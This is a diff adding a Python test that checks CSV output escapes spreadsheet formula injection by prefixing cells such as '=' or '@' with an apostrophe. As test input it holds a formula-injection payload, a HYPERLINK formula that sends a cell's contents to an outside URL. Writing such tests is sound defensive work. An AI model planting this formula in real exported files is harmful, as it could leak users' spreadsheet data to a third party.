@@ -60,6 +60,14 @@ def test_every_row_that_is_left_out_is_written_with_its_sentence(tmp_path: Path)
         ]
 
 
+def test_no_row_that_is_left_out_is_a_formula_in_a_spreadsheet(tmp_path: Path) -> None:
+    path = tmp_path / "excluded.csv"
+    write_excluded(path, planned('=HYPERLINK("https://example.com/?"&A1)', "@sum", "n/a =1"))
+    with path.open(newline="") as file:
+        texts = [row[-1] for row in csv.reader(file)][1:]
+    assert texts == ['\'=HYPERLINK("https://example.com/?"&A1)', "'@sum", "n/a =1"]
+
+
 def test_a_reason_of_another_version_has_no_sentence() -> None:
     assert sentence_of("duplicate") == Refusal.DUPLICATE.sentence
     assert sentence_of("on_the_moon") == ""
